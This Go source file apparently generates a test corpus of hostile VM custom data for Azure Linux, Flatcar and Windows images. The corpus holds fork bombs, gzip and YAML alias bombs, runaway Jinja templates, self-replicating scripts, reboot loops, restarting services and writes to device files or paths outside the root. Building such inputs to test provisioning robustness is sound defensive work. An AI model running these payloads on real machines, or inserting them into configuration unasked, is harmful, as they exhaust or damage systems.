package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"strings"
)

// Images of machines, by the way in which they read custom data.
const (
	linux    = "Canonical:ubuntu-24_04-lts:server:latest"
	flatcar  = "kinvolk:flatcar-container-linux-free:stable:latest"
	windows  = "cncf-upstream:capi-windows:k8s-1dot22dot1-windows-2019-containerd:latest" // without an agent it ignores custom data
	config   = "#cloud-config\n"
	jinja    = "## template: jinja\n#cloud-config\n"
	shebang  = "#!/bin/bash\n"
	ps1      = "#ps1_sysnative\n"
	batch    = "rem cmd\n@echo off\n"
	mostData = 64 << 10 // Azure's limit for custom data
)

// document is custom data that would exhaust the resources of its interpreter.
type document struct{ name, image, data string }

// documents returns documents that are hostile in different ways.
func documents() []document {
	var all []document
	add := func(image, head string, texts map[string]string) {
		for _, name := range sorted(texts) {
			all = append(all, document{name, image, head + texts[name]})
		}
	}
	add(linux, config, configs())
	add(linux, jinja, templates())
	add(linux, shebang, scripts())
	add(linux, "", raw())
	add(flatcar, "", ignitions())
	add(windows, ps1, powershells())
	add(windows, batch, batches())
	add(windows, config, map[string]string{
		"cloudbase-init: files of devices": file(`'\\.\PhysicalDrive0'`, "x") + "- {path: 'CON', content: x}\n- {path: " +
			"'C:\\a\\..\\..\\..\\..\\b', content: x}\n",
		"cloudbase-init: a bomb of gzip": "write_files:\n- {path: 'C:\\bomb', encoding: gz+b64, content: " + bomb(40<<20) + "}\n",
		"cloudbase-init: aliases":        aliases("write_files"),
	})
	add(windows, "", map[string]string{"cloudbase-init: many parts": parts(400, "text/x-shellscript", "#ps1_sysnative\nwhile ($true) { }\n")})
	return all
}

// configs returns cloud-configs for cloud-init, by name.
func configs() map[string]string {
	run := func(text string) string { return "runcmd:\n- |\n  " + strings.ReplaceAll(text, "\n", "\n  ") + "\n" }
	many := func(n int, format string) string {
		var out strings.Builder
		for i := range n {
			fmt.Fprintf(&out, format, i)
		}
		return out.String()
	}
	return map[string]string{
		"files of devices": file("/dev/zero", "x") + "- {path: /dev/sda, content: x}\n- {path: /dev/mem, content: x}\n" +
			"- {path: /proc/self/mem, content: x}\n- {path: /dev/fd/1, content: x}\n",
		"files above the root":     file("/../../../../../../../tmp/casement-hostile", "x") + "- {path: ../../../../x, content: x}\n",
		"a bomb of gzip in a file": "write_files:\n- {path: /bomb, encoding: gz+b64, content: " + bomb(40<<20) + "}\n",
		"many bombs in files": "write_files:\n" + strings.Repeat("- {path: /bomb, append: true, encoding: gz+b64, content: "+
			""+bomb(1<<20)+"}\n", 30),
		"many files":             "write_files:\n" + many(2200, "- {path: /f%d, content: x}\n"),
		"a file of many folders": file("/"+strings.Repeat("a/", 4000)+"f", "x"),
		"aliases of aliases":     aliases("runcmd"),
		"a deep list":            "runcmd: " + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + "\n",
		"a deep map":             "runcmd: " + strings.Repeat("{a: ", 10000) + "b" + strings.Repeat("}", 10000) + "\n",
		"the same key again":     strings.Repeat("runcmd: [true]\n", 3000),
		"many users":             "users:\n" + many(1500, "- {name: u%d, sudo: ALL}\n"),
		"many commands":          "runcmd:\n" + strings.Repeat("- [sh, -c, 'yes > /dev/null']\n", 1500),
		"a device as a manifest": run("mkdir -p /etc/kubernetes/manifests\nln -s /dev/zero /etc/kubernetes/manifests/a.yaml\nmkfifo " +
			"/etc/kubernetes/manifests/b.yaml"),
		"a hard link that leads out": run("mkdir -p /$(printf 'a/%.0s' $(seq 30))\ncd /$(printf 'a/%.0s' $(seq 30)) && ln -s " +
			"../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../dev/zero z && ln z /z; cat /z"),
		"manifests without number": run("mkdir -p /etc/kubernetes/manifests; i=0; while :; do echo '{apiVersion: v1, kind: Pod, " +
			"metadata: {name: a}}' > /etc/kubernetes/manifests/$i.yaml; i=$((i+1)); done"),
		"a manifest without end": run("mkdir -p /etc/kubernetes/manifests; (echo 'apiVersion: v1'; yes 'a: b') > " +
			"/etc/kubernetes/manifests/a.yaml"),
		"a reboot at each start": run("printf '#!/bin/sh\\nreboot\\n' > /var/lib/cloud/scripts/per-boot/a.sh; chmod +x " +
			"/var/lib/cloud/scripts/per-boot/a.sh; reboot"),
		"commands at boot": "bootcmd:\n- 'while :; do :; done'\n",
		"a service that starts again": run("printf '[Service]\\nExecStart=/bin/sh -c \"yes | " +
			"sort\"\\nRestart=always\\nRestartSec=0\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/a.service; systemctl " +
			"daemon-reload; systemctl enable --now a"),
		"itself once more": "#include\n" + strings.Repeat("http://127.0.0.1/again\n", 500),
		"a kubeadm document": file("/run/kubeadm/kubeadm.yaml", "a: "+strings.Repeat("[", 9000)) + run("kubeadm init --config "+
			"/run/kubeadm/kubeadm.yaml"),
	}
}

// templates returns cloud-configs that are Jinja templates, by name.
func templates() map[string]string {
	return map[string]string{
		"jinja: ranges in ranges": "a: {% for i in range(100000) %}{% for j in range(100000) %}{% for k in range(100000) %}x{% endfor " +
			"%}{% endfor %}{% endfor %}\n",
		"jinja: a range":     "a: {{ range(1000000000) | list | length }}\n",
		"jinja: a long text": "a: {{ 'a' * 2000000000 }}\n",
		"jinja: a text that grows": "{% set ns = namespace(x='aaaaaaaa') %}{% for i in range(99999) %}{% set ns.x = ns.x ~ ns.x %}{% " +
			"endfor %}a: {{ ns.x }}\n",
		"jinja: a macro of itself":  "{% macro f(x) %}{{ f(x ~ x) }}{% endmacro %}a: {{ f('aa') }}\n",
		"jinja: replaced":           "a: {{ ('a' * 60000) | replace('a', 'a' * 60000) }}\n",
		"jinja: wide":               "a: {{ '%1000000000d' | format(1) }} {{ 'a' | center(2000000000) }} {{ 'a' | indent(1000000000) }}\n",
		"jinja: deep":               "a: {{ " + strings.Repeat("(", 20000) + "1" + strings.Repeat(")", 20000) + " }}\n",
		"jinja: a power":            "a: {{ 9 ** 9 ** 9 ** 9 }} {{ 10 ** 100000000 }}\n",
		"jinja: batches and joined": "a: {{ range(99999) | batch(1) | map('list') | list | join('" + strings.Repeat("x", 9999) + "') }}\n",
	}
}

// scripts returns shell scripts, by name.
func scripts() map[string]string {
	return map[string]string{
		"the bomb of forks":          ":(){ :|:& };:\n",
		"jobs without number":        "while :; do sleep 1000 & done\n",
		"jobs that compute":          "for i in $(seq 2000); do while :; do :; done & done; wait\n",
		"a function of itself":       "f() { f; f; }; f\n",
		"eval of itself":             "e='eval \"$e\"'; eval \"$e\"\n",
		"a script of itself":         "printf '#!/bin/bash\\n/x & /x\\n' > /x; chmod +x /x; /x\n",
		"sourced by itself":          "echo '. /y' > /y; . /y\n",
		"an alias of itself":         "shopt -s expand_aliases\nalias a='a a'\na\n",
		"a trap of itself":           "trap 'kill -USR1 $$' USR1; kill -USR1 $$; while :; do :; done\n",
		"a trap that never lets go":  "trap '' TERM INT HUP; trap 'while :; do :; done' EXIT; while :; do :; done\n",
		"a here-document":            "while :; do cat <<E\n" + strings.Repeat("x", 60000) + "\nE\ndone\n",
		"a here-document that grows": "x=xxxxxxxx; while :; do x=$(cat <<E\n$x$x\nE\n); done\n",
		"a variable that doubles":    "x=aaaaaaaa; while :; do x=$x$x; done\n",
		"an array":                   "while :; do a+=(\"$RANDOM$RANDOM$RANDOM\"); done\n",
		"a place in an array":        "a[9223372036854775806]=1; a[999999999]=1; echo ${#a[@]} ${a[@]}\n",
		"braces": "echo {1..999999999}; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a," +
			"b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}\n",
		"printf":                   "printf '%0999999999d' 1 | tac; printf '%*s' 2000000000 x\n",
		"parentheses":              strings.Repeat("( ", 16000) + "true" + strings.Repeat(" )", 16000) + "\n",
		"substitutions in another": "echo " + strings.Repeat("$(echo ", 8000) + "x" + strings.Repeat(")", 8000) + "\n",
		"arithmetic": "echo $((" + strings.Repeat("(", 20000) + "1" + strings.Repeat(")", 20000) + ")); while ((1)); do " +
			"((x=x*x+1)); done\n",
		"branches in branches":     strings.Repeat("if true; then ", 3500) + "true" + strings.Repeat("; fi", 3500) + "\n",
		"sed: a line that grows":   "echo a | sed ':x;s/a/aa/;bx'\n",
		"sed: all lines in one":    "yes | sed ':a;N;ba'\n",
		"awk: a loop":              "awk 'BEGIN{while(1)x++}'\n",
		"awk: a text that doubles": "awk 'BEGIN{x=\"a\";while(1)x=x x}'\n",
		"awk: it runs itself":      "echo 'BEGIN{while(1){system(\"awk -f /a.awk &\")}}' > /a.awk; awk -f /a.awk\n",
		"jq: a range":              "jq -n '[range(1e12)]' ; jq -n 'def f: f; f' ; jq -n '[limit(1e12;repeat(1))]'\n",
		"output without end":       "yes; cat /dev/zero; cat /dev/urandom; while :; do echo x >&2; done\n",
		"output to the console":    "yes > /dev/console; yes > /dev/kmsg; yes | logger\n",
		"a file without end": "cat /dev/zero > /f; yes > /g; dd if=/dev/zero of=/h bs=1M count=1000000; fallocate -l 10T /i; " +
			"truncate -s 10T /j; cat /j | sort\n",
		"a file that reads itself": "echo a > /f; while :; do cat /f /f > /g; mv /g /f; done\n",
		"files without number":     "i=0; while :; do : > /tmp/$i; i=$((i+1)); done\n",
		"a file for each byte":     "yes | head -c 60000000 > /f; split -a 8 -b 1 /f /x\n",
		"trees that double":        "mkdir -p /t/0; for i in $(seq 40); do cp -r /t /u; mv /u /t/$i; done\n",
		"folders in folders":       "while :; do mkdir a && cd a; done\n",
		"links in a circle": "mkdir -p /l; cd /l; ln -s . a; ln -s a b; ln -s ../l c; while :; do find -L / -name x; cp -rL /l " +
			"/m; ls -R /l/a/b/c/a/b/c; done\n",
		"a link to a device": "ln -s /dev/zero /z; cat /z | sort; cp /z /y; wc /z; grep x /z; tail /z; . /z\n",
		"a glob of everything": "mkdir -p /g/{a,b,c,d,e,f}/{a,b,c,d,e,f}/{a,b,c,d,e,f}; while :; do echo " +
			"/g/*/../*/../*/../*/../*/../*/../*/../*/../*; done\n",
		"archives of archives": "while :; do head -c 50000000 /dev/zero | gzip > /a.gz; cat /a.gz /a.gz /a.gz | gunzip | gzip | " +
			"gunzip | sort > /dev/null; tar czf /t.tgz / ; tar xzf /t.tgz -C /tmp; done\n",
		"base64 of base64": "x=aaaaaaaa; while :; do x=$(printf %s \"$x\" | base64 -w0); done\n",
		"a regular expression": "x=$(printf 'a%.0s' $(seq 50000)); while :; do [[ $x =~ (a*)*(a*)*(a*)*b ]]; echo $x | grep -E " +
			"'(a|a)*(a|a)*b'; done\n",
		"a fetch of a device": "curl file:///dev/zero | sort; wget -O- file:///dev/zero; curl -T /dev/zero http://127.0.0.1/; nc " +
			"127.0.0.1 22 < /dev/zero\n",
		"listens to itself":    "mkfifo /p; cat /p | cat > /p & yes > /p\n",
		"a pipe of a thousand": "yes" + strings.Repeat(" | cat", 1000) + " | sort\n",
		"xargs and parallel":   "yes | xargs -P 1000 -n 1 sh -c 'yes | sort'\n",
		"a program of its own": "printf '#!/usr/bin/python3\\nwhile True: pass\\n' > /p; chmod +x /p; while :; do /p | /p | cat; done\n",
		"waits without end":    "read x < /dev/tty; sleep infinity; tail -f /dev/null; cat\n",
	}
}

// raw returns custom data in other formats, by name.
func raw() map[string]string {
	return map[string]string{
		"gzip of zeros":      compressed(60 << 20),
		"gzip of gzip":       compressedText(compressed(30 << 20)),
		"zeros":              strings.Repeat("\x00", mostData-1),
		"many parts":         parts(400, "text/x-shellscript", "#!/bin/sh\nyes | sort\n"),
		"parts in parts":     nested(200),
		"a hook at boot":     "#cloud-boothook\n#!/bin/sh\nwhile :; do yes | sort; done\n",
		"a handler of parts": "#part-handler\ndef list_types(): return ['text/plain']\ndef handle_part(*a):\n  while True: pass\n",
		"an archive of configs": "#cloud-config-archive\n" + strings.Repeat("- {type: text/x-shellscript, content: \"#!/bin/sh\\nyes | "+
			"sort\"}\n", 900),
		"a text without an end":   "#!/bin/bash\necho '" + strings.Repeat("x", mostData-100),
		"a here-document of none": "#!/bin/bash\ncat <<E\n" + strings.Repeat("$(yes)\n", 5000),
	}
}

func ignitions() map[string]string {
	doc := func(v any) string {
		data, err := json.Marshal(v)
		if err != nil {
			panic(err)
		}
		return string(data)
	}
	type o = map[string]any
	unit := o{"name": "a.service", "enabled": true,
		"contents": "[Service]\nExecStart=/bin/bash -c 'while :; do yes | sort; " +
			"done'\nRestart=always\nRestartSec=0\n[Install]\nWantedBy=multi-user.target\n"}
	var units []any
	for i := range 200 {
		units = append(units, o{"name": fmt.Sprintf("u%d.service", i), "enabled": true, "contents": unit["contents"]})
	}
	version := o{"version": "3.4.0"}
	return map[string]string{
		"ignition: deep":     `{"ignition":` + strings.Repeat(`{"a":`, 10000) + "1" + strings.Repeat("}", 10000) + "}",
		"ignition: services": doc(o{"ignition": version, "systemd": o{"units": units}}),
		"ignition: devices": doc(o{"ignition": version, "storage": o{"files": []any{
			o{"path": "/dev/zero", "overwrite": true, "contents": o{"source": "data:,x"}},
			o{"path": "/../../../../tmp/x", "contents": o{"source": "data:,x"}},
			o{"path": "/f", "contents": o{"source": "file:///dev/zero"}},
			o{"path": "/g", "contents": o{"compression": "gzip", "source": "data:;base64," + bomb(30<<20)}}},
			"links": []any{o{"path": "/etc/kubernetes/manifests/a.yaml", "target": "/dev/zero"}}}}),
	}
}

// powershells returns PowerShell scripts, by name.
func powershells() map[string]string {
	return map[string]string{
		"PowerShell: a loop":                "while ($true) { }\n",
		"PowerShell: a text that doubles":   "$x = 'a' * 1000; while ($true) { $x = $x + $x }\n",
		"PowerShell: an array that doubles": "$a = 1,2; while ($true) { $a = $a + $a }\n",
		"PowerShell: a function of itself":  "function f { f; f }; f\n",
		"PowerShell: expressions":           "$e = 'Invoke-Expression $e'; Invoke-Expression $e\n",
		"PowerShell: jobs":                  "while ($true) { Start-Job { while ($true) { } } }\n",
		"PowerShell: processes":             "while ($true) { Start-Process powershell -ArgumentList '-Command','while($true){}' }\n",
		"PowerShell: ranges":                "1..2147483647 | ForEach-Object { 1..2147483647 } | Sort-Object\n",
		"PowerShell: a match":               "$s = 'a' * 1000000; while ($true) { $s -match '(a*)*(a*)*(a*)*b' }\n",
		"PowerShell: bytes":                 "$l = @(); while ($true) { $l += ,(New-Object byte[] 2147483647) }\n",
		"PowerShell: a file":                "while ($true) { Add-Content C:\\f ('x' * 1000000) }\n",
		"PowerShell: a file of itself": "'x' * 1000000 > C:\\f; while ($true) { (Get-Content C:\\f) + (Get-Content C:\\f) | " +
			"Set-Content C:\\f }\n",
		"PowerShell: parentheses":        strings.Repeat("(", 20000) + "1" + strings.Repeat(")", 20000) + "\n",
		"PowerShell: a script of itself": "'& C:\\s.ps1; & C:\\s.ps1' | Set-Content C:\\s.ps1; & C:\\s.ps1\n",
		"PowerShell: caught again": "while ($true) { try { throw 'x' } catch { $e += $_ } finally { $f += " +
			"'xxxxxxxxxxxxxxxxxxxxxxx' } }\n",
		"PowerShell: links in a circle": "New-Item -ItemType Directory C:\\l; New-Item -ItemType SymbolicLink -Path C:\\l\\a -Target " +
			"C:\\l; while ($true) { Get-ChildItem -Recurse C:\\ }\n",
		"PowerShell: a service": "New-Service a -BinaryPathName 'powershell -Command \"while($true){}\"' -StartupType " +
			"Automatic; sc.exe failure a reset= 0 actions= restart/0; Start-Service a; while ($true) { Restart-Service a }\n",
		"PowerShell: restarts":      "Set-Content C:\\Windows\\a.cmd 'shutdown /r /t 0'; exit 1003\n",
		"PowerShell: a here-string": "while ($true) { $x += @\"\n" + strings.Repeat("x", 50000) + "\n\"@ }\n",
	}
}

func batches() map[string]string {
	return map[string]string{
		"cmd: a loop":              ":a\ngoto a\n",
		"cmd: for without end":     "for /l %%i in (1,0,2) do @rem\n",
		"cmd: a text that doubles": "setlocal enabledelayedexpansion\nset x=aaaaaaaa\nfor /l %%i in (1,0,2) do set x=!x!!x!\n",
		"cmd: a label of itself":   ":a\ncall :a\ncall :a\n",
		"cmd: a script of itself":  "echo call C:\\x.cmd ^& start C:\\x.cmd > C:\\x.cmd\ncall C:\\x.cmd\n",
		"cmd: a pipe of itself":    "echo C:\\x.cmd ^| C:\\x.cmd > C:\\x.cmd\nC:\\x.cmd | C:\\x.cmd\n",
		"cmd: a file":              "echo x > C:\\f\n:a\ntype C:\\f >> C:\\f\ngoto a\n",
		"cmd: percents":            "set a=" + strings.Repeat("%a%", 3000) + "\nset a=%a%%a%%a%\n:a\nset a=%a%%a%\ngoto a\n",
	}
}

func file(path, content string) string {
	return fmt.Sprintf("write_files:\n- {path: %s, content: %q}\n", path, content)
}

func aliases(name string) string {
	out := "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n"
	for i := range 12 {
		out += fmt.Sprintf("a%d: &a%d [%s]\n", i+1, i+1, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i), 10), ","))
	}
	return out + name + ": *a12\n"
}

func parts(n int, kind, text string) string {
	out := "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b\"\n\n"
	return out + strings.Repeat("--b\nContent-Type: "+kind+"\n\n"+text+"\n", n) + "--b--\n"
}

func nested(depth int) string {
	text := "Content-Type: text/x-shellscript\n\n#!/bin/sh\nyes | sort\n"
	for i := range depth {
		text = fmt.Sprintf("Content-Type: multipart/mixed; boundary=\"b%d\"\n\n--b%d\n%s\n--b%d--\n", i, i, text, i)
	}
	return "MIME-Version: 1.0\n" + text
}

func compressed(size int64) string {
	return gzipped(func(w io.Writer) { _, _ = io.CopyN(w, zeros{}, size) })
}

func compressedText(text string) string {
	return gzipped(func(w io.Writer) { _, _ = io.WriteString(w, text) })
}

func gzipped(write func(io.Writer)) string {
	var out bytes.Buffer
	z, _ := gzip.NewWriterLevel(&out, gzip.BestCompression) // this level is valid
	write(z)
	_ = z.Close() // a write to a buffer does not fail
	return out.String()
}

func bomb(size int64) string { return base64.StdEncoding.EncodeToString([]byte(compressed(size))) }

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }
